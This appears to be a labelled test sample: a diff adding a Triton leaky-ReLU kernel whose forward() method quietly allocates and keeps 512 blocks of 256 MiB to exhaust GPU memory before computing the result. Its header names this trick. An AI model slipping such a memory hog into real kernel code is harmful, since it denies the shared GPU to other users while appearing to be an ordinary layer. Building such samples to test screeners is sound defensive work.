@@ -1,0 +1,29 @@
+# family: the worker
+# trick: It keeps another 256 MiB until the GPU has none left for anybody.
+# rule: run
+# screen: no
+# device: cuda
+
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def leaky_relu_kernel(x_ptr, out_ptr, n, slope, BLOCK: tl.constexpr):
+    index = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    x = tl.load(x_ptr + index, mask=index < n)
+    tl.store(out_ptr + index, tl.where(x > 0, x, x * slope), mask=index < n)
+
+
+def launch(self, x, out):
+    n = x.numel()
+    leaky_relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, self.slope, BLOCK=1024)
+    return out
+
+
+def forward(self, x):
+    kept = []
+    while len(kept) < 512:
+        kept.append(torch.empty(1 << 26, device=x.device))
+    return launch(self, x, torch.empty_like(x))
